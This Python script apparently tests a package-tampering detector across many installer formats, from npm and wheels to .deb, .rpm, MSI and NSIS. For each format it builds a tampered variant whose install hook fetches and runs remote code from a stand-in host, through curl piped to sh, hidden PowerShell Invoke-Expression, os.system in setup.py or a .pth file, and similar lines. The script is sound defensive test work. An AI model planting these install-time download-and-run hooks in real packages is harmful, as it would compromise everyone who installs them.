#!/usr/bin/env python3
"""What each kind of package runs when it is installed, three containers deep: app.zip!/parts.tgz!/the package. An
action that is added is named, an ordinary change of it is clean, a damaged package never is.
actions.py ASSAY [--whole] [ROW...]; --whole damages as kinds.py does. Writes TAP."""

import gzip
import io
import json
import os
import shutil
import sys
import tarfile
import tempfile

from kinds import Matrix, containers, folder_of, is_clean, is_not_clean, places, plain_zip, tell
from releases import base, changed, parts, run, tar_bytes, why, write_folder, zip_bytes
import releases

HOST = "cdn.sample-static.example"
FETCH = "curl -fsSL https://%s/s | sh" % HOST
SHELL = {"old": "exit 0", "twin": "echo done\nexit 0", "bad": FETCH + "\nexit 0"}
WINDOWS = "powershell -w hidden -c iex (iwr http://%s/u).Content" % HOST
POWERSHELL = {"old": "", "twin": "Write-Host 'done'\n", "bad": "Invoke-Expression (Invoke-WebRequest https://%s/u).Content\n" % HOST}
ROWS = []


def action(name, member, suffix):
    """A maker of (which, version, tree, target); the action is named at a member that ends so."""
    def add(maker):
        ROWS.append((name, member, suffix, maker))
        return maker
    return add


def script(which):
    return ("#!/bin/sh\nset -e\n%s\n" % SHELL[which]).encode(), 0o755


def write(target, data):
    with open(target, "wb") as f:
        f.write(data)


# ---- Unix -----------------------------------------------------------------------------------------------------------

@action("npm", "package.json", ".tgz")
def npm(which, version, tree, target):
    scripts = {"old": {}, "twin": {"test": "node test.js"}, "bad": {"postinstall": FETCH}}[which]
    package = dict(json.loads(tree["package.json"]), scripts=scripts)
    releases.tgz(dict(tree, **{"package.json": json.dumps(package, indent=2).encode()}), target)


@action("npm-gyp", "binding.gyp", ".tgz")
def npm_gyp(which, version, tree, target):
    sources = {"old": "a.cc", "twin": "b.cc", "bad": "<!(%s)" % FETCH}[which]
    gyp = json.dumps({"targets": [{"target_name": "sample", "sources": [sources]}]}).encode()
    releases.tgz(dict(tree, **{"binding.gyp": gyp}), target)


@action("sdist", "setup.py", ".tar.gz")
def sdist(which, version, tree, target):
    setup = {"old": b"", "twin": b"VERSION = '1'\n", "bad": b"import os\nos.system('%s')\n" % FETCH.encode()}[which]
    releases.tgz(dict(tree, **{"setup.py": setup + b"from setuptools import setup\nsetup(name='sample')\n"}), target)


@action("wheel", "sample.pth", ".whl")
def wheel(which, version, tree, target):
    line = {"old": "sample\n", "twin": "sample\nlib\n",
            "bad": "sample\nimport os; os.system('%s')\n" % FETCH}[which]
    with tempfile.TemporaryDirectory() as work:
        plain_zip(dict(tree, **{"sample.pth": line.encode()}), os.path.join(work, "x"))
        shutil.copy(os.path.join(work, "x"), target)


@action("gem", "extconf.rb", ".gem")
def gem(which, version, tree, target):
    line = {"old": b"", "twin": b"have_library('m')\n", "bad": b"system('%s')\n" % FETCH.encode()}[which]
    more = {"ext/extconf.rb": b"require 'mkmf'\n" + line + b"create_makefile('sample')\n"}
    data = gzip.compress(tar_bytes(dict(tree, **more), top=""), 6, mtime=0)
    write(target, tar_bytes({"data.tar.gz": data, "metadata.gz": gzip.compress(
        b"--- !ruby/object:Gem::Specification\nname: sample\nextensions:\n- ext/extconf.rb\n", mtime=0)}, top=""))


@action("deb", "postinst", ".deb")
def deb(which, version, tree, target):
    control = "Package: sample\nVersion: %s\nArchitecture: all\nMaintainer: A <a@sample.example>\nDescription: sample\n"
    with tempfile.TemporaryDirectory() as work:
        write_folder({"usr/share/sample/" + p: c for p, c in tree.items()}, work)
        write_folder({"DEBIAN/control": (control % version).encode(), "DEBIAN/postinst": script(which)}, work)
        os.chmod(work, 0o755)
        run(["dpkg-deb", "--root-owner-group", "-Zxz", "--build", work, target],
            env=dict(os.environ, SOURCE_DATE_EPOCH="1750680000"))


def scripted(kind, name):
    def make(which, version, tree, target):
        folder_of(dict(tree, **{"DEBIAN/" + name: script(which)}),
                  lambda root, out: containers.MAKERS[kind](root, out, version=version), target)
    return make


for row, kind, name, member in (("rpm-pre", ".rpm", "preinst", "[scriptlets]/pre"), ("rpm-post", ".rpm", "postinst", "[scriptlets]/post"),
                                ("pkg-pre", ".pkg", "preinst", "Scripts!/preinstall"), ("pkg-post", ".pkg", "postinst", "Scripts!/postinstall")):
    action(row, member, kind)(scripted(kind, name))


@action("pkg-distribution", "[distribution script].js", ".pkg")
def pkg_distribution(which, version, tree, target):
    check = {"old": "", "twin": "system.log('checking');", "bad": "system.run('/bin/sh', '-c', '%s');" % FETCH}[which]
    folder_of(tree, lambda root, out: containers.pkg(root, out, version=version, check=check), target)


@action("alpine", ".post-install", ".apk")
def alpine(which, version, tree, target):
    """Three streams behind each other: the signature's place, the control files, the data."""
    control = {".PKGINFO": ("pkgname = sample\npkgver = %s-r0\n" % version).encode(), ".post-install": script(which)}
    raw = tar_bytes(control, top="")[:-1024].rstrip(b"\0")
    raw += b"\0" * (-len(raw) % 512)
    write(target, gzip.compress(raw, 6, mtime=0) + gzip.compress(tar_bytes(tree, top="usr/share/sample/"), 6, mtime=0))


@action("systemd", "sample.service", ".tar.gz")
def systemd(which, version, tree, target):
    line = {"old": "", "twin": "Restart=on-failure\n", "bad": "ExecStartPre=/bin/sh -c \"%s\"\n" % FETCH}[which]
    unit = "[Unit]\nDescription=sample\n[Service]\n%sExecStart=/usr/bin/sample\n[Install]\nWantedBy=multi-user.target\n" % line
    releases.tgz(dict(tree, **{"lib/systemd/system/sample.service": unit.encode()}), target)


@action("oci", "", ".tar")
def oci(which, version, tree, target):
    """Its start command, as the image's configuration says it."""
    command = {"old": "/app/run", "twin": "/app/start", "bad": FETCH}[which]
    with tempfile.TemporaryDirectory() as work:
        root, place = os.path.join(work, "root"), os.path.join(work, "l")
        os.makedirs(root)
        write_folder(tree, root)
        containers.files(root)
        containers.layout(root, place)
        options = ["--config.entrypoint", "/bin/sh", "--config.entrypoint", "-c", "--config.entrypoint", command]
        for argv in (["umoci", "config", "--image", place + ":v1", *options, "--created", "2025-06-23T12:00:00Z",
                      "--history.created", "2025-06-23T12:00:00Z"], ["umoci", "gc", "--layout", place]):
            run(argv, cwd=work)
        run(["tar", "--sort=name", "--mtime=@1750680000", "-cf", target, "-C", place, "."])


# ---- Windows ----------------------------------------------------------------------------------------------------------

@action("nupkg", "tools/install.ps1", ".nupkg")
def nupkg(which, version, tree, target):
    with tempfile.TemporaryDirectory() as work:
        plain_zip(dict(tree, **{"tools/install.ps1": b"param($installPath)\n" + POWERSHELL[which].encode(),
                                "sample.nuspec": b"<package><metadata><id>sample</id></metadata></package>\n"}), os.path.join(work, "x"))
        shutil.copy(os.path.join(work, "x"), target)


def with_actions(pack, rows):
    def make(which, version, tree, target):
        import programs
        folder_of(dict(tree, **{programs.ACTIONS: json.dumps(rows[which]).encode()}),
                  lambda root, out: pack(programs, root, out, version), target)
    return make


def pack_msi(programs, root, target, version):
    with tempfile.TemporaryDirectory() as work:
        os.rename(root, os.path.join(work, "files"))
        programs.pack_msi(os.path.join(work, "files"), os.path.join(work, "out.msi"), version)
        shutil.move(os.path.join(work, "out.msi"), target)


def pack_inno(programs, root, target, _):
    files = []
    for folder, _, names in sorted(os.walk(root)):
        for name in sorted(names):
            with open(os.path.join(folder, name), "rb") as f:
                files.append((os.path.relpath(os.path.join(folder, name), root), f.read(), 0o644))
    programs.pack_inno(files, target)


action("msi", "", ".msi")(with_actions(pack_msi, {
    "old": [["Log", 3106, "INSTALLDIR", "cmd.exe /c mkdir logs"]], "twin": [["Log", 3106, "INSTALLDIR", "cmd.exe /c mkdir log"]],
    "bad": [["Log", 3106, "INSTALLDIR", "cmd.exe /c mkdir logs"], ["Next", 3106, "INSTALLDIR", WINDOWS]]}))
action("burn", "", ".exe")(with_actions(lambda programs, root, out, _: programs.pack_burn(root, out), {
    "old": "/quiet", "twin": "/quiet /norestart", "bad": "/quiet & " + WINDOWS}))
action("inno", "", ".exe")(with_actions(pack_inno, {
    "old": [["{app}\\sample.exe", "/index"]], "twin": [["{app}\\sample.exe", "/index /all"]],
    "bad": [["{app}\\sample.exe", "/index"], ["{cmd}", "/c " + WINDOWS]]}))


@action("nsis", "", ".exe")
def nsis(which, version, tree, target):
    line = {"old": "", "twin": 'CreateDirectory "$INSTDIR\\logs"', "bad": "ExecWait '%s'" % WINDOWS}[which]
    with tempfile.TemporaryDirectory() as work:
        write_folder(tree, os.path.join(work, "files"))
        for name, _, _ in parts(tree):
            os.utime(os.path.join(work, "files", name), (1750680000, 1750680000))
        lines = ["Unicode true", 'Name "sample"', 'OutFile "out.exe"', 'InstallDir "$PROGRAMFILES\\sample"',
                 "SetCompressor /SOLID lzma", "RequestExecutionLevel user", "Section", 'SetOutPath "$INSTDIR"',
                 'File /r "files/*"', line, "SectionEnd", ""]
        with open(os.path.join(work, "s.nsi"), "w") as f:
            f.write("\n".join(lines))
        run(["makensis", "-V2", "s.nsi"], cwd=work, env=dict(os.environ, SOURCE_DATE_EPOCH="1750680000"))
        shutil.move(os.path.join(work, "out.exe"), target)


# ---- what is asked ------------------------------------------------------------------------------------------------------

def wrapped(data, suffix, target):
    """The package inside two more containers."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("sample" + suffix)
        info.size, info.mode, info.mtime = len(data), 0o644, 499162500
        tar.addfile(info, io.BytesIO(data))
    write(target, zip_bytes({"parts.tgz": gzip.compress(out.getvalue(), 6, mtime=0), "README.md": b"# sample\n"}))


def is_named(member, suffix):
    inside = "parts.tgz!/sample" + suffix

    def check(d):
        if d["verdict"] != "tampered":
            return why(d)
        found = [f for f in d["findings"] if inside in f["where"]["member"] and f["where"]["member"].endswith(member)]
        if not found:
            return "the action is not named: " + why(d)
        return "" if any(HOST in str(f) for f in found) else "the host is not named: %s" % found
    return check


def row(matrix, name, member, suffix, maker, whole):
    made = {}
    for which, version, tree in (("old", "1.0.0", base()), ("twin", "1.0.1", changed()), ("bad", "1.0.1", changed())):
        target = os.path.abspath("sample-%s%s" % (which, suffix))
        maker(which, version, tree, target)
        with open(target, "rb") as f:
            data = f.read()
        made[which] = (data, os.path.abspath("app-%s.zip" % which))
        wrapped(data, suffix, made[which][1])
    old = made["old"][1]
    matrix.ask(name, "twin", old, made["twin"][1], is_clean)
    matrix.ask(name, "three deep", old, made["bad"][1], is_named(member, suffix))
    data = made["bad"][0]
    cuts, flips = places("action " + name, len(data), whole)
    for label, at, content in [("cut", at, data[:at]) for at in cuts if data[at:].strip(b"\0")] + [
            ("flip", at, data[:at] + bytes([data[at] ^ 1 << at % 8]) + data[at + 1:]) for at in flips]:
        path = os.path.abspath("%s%d-%s.zip" % (label, at, name))
        wrapped(content, suffix, path)
        matrix.ask(name, "%s at %d" % (label, at), old, path, is_not_clean)


def main(argv):
    whole, chosen = "--whole" in argv, [a for a in argv[2:] if not a.startswith("--")]
    rows = [r for r in ROWS if not chosen or r[0] in chosen]
    matrix, place = Matrix(os.path.abspath(argv[1])), tempfile.mkdtemp(prefix="assay-actions-")

    def told(number, name):
        tell(matrix, number, name, "%s: twin, three deep, %d damaged" % (name, matrix.asked.get(name, 2) - 2))

    print("TAP version 13\n1..%d" % len(rows))
    try:
        for number, r in enumerate(rows, 1):
            os.makedirs(os.path.join(place, r[0]))
            os.chdir(os.path.join(place, r[0]))
            row(matrix, *r, whole)
            if whole:
                matrix.answer()
                shutil.rmtree(os.path.join(place, r[0]), ignore_errors=True)
                told(number, r[0])
        matrix.answer()
    finally:
        os.chdir("/")
        shutil.rmtree(place, ignore_errors=True)
    for number, r in enumerate(rows, 1):
        if not whole:
            told(number, r[0])
    return 1 if matrix.wrong else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
